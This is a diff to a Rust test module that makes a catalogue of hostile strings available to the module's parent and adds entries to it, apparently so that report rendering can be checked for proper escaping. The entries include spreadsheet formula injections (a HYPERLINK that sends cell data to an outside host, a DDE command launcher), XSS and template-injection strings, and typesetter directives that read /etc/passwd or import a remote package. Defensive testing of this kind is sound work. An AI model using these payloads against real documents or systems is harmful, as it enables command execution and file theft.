@@ -18,7 +18,7 @@ use crate::report::table::Cell;
 use crate::report::{Fact, Report};
 
 /// Words that attack one target or another; the numbers are those of the hostile catalogue.
-const HOSTILE: &[&str] = &[
+pub(super) const HOSTILE: &[&str] = &[
     // H-98 to H-100: formulas.
     "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
     "=cmd|' /C calc'!A0",
@@ -52,6 +52,10 @@ const HOSTILE: &[&str] = &[
     "]]><!-- &#x3c; javascript:alert(1) {{7*7}} ${x}",
     "</script><script>\u{2028}\u{2029}",
     ";background:url(//x)<image href=\"file:///etc/passwd\"><use/><foreignObject>",
+    // What a typesetter would run.
+    "#panic() #read(\"/etc/passwd\") #{1 + 1}",
+    "$x^2$ *bold* _it_ @ref <label> = heading // comment",
+    "#import \"@preview/x:1.0.0\": * \\u{41} ~ -- --- ... https://x.example",
     // H-111, H-113: what looks like something else.
     "_x001B_",
     "NULL",
@@ -70,7 +74,7 @@ const HOSTILE: &[&str] = &[
 ];
 
 /// A report whose every word is hostile, among them the names of a tag, a currency and a filter.
-fn hostile(words: &[&str]) -> Report {
+pub(super) fn hostile(words: &[&str]) -> Report {
     let long = "x".repeat(40_000);
     let pile = format!("e{}", "\u{301}".repeat(100_000));
     let words = words.iter().copied().chain([long.as_str(), pile.as_str()]);
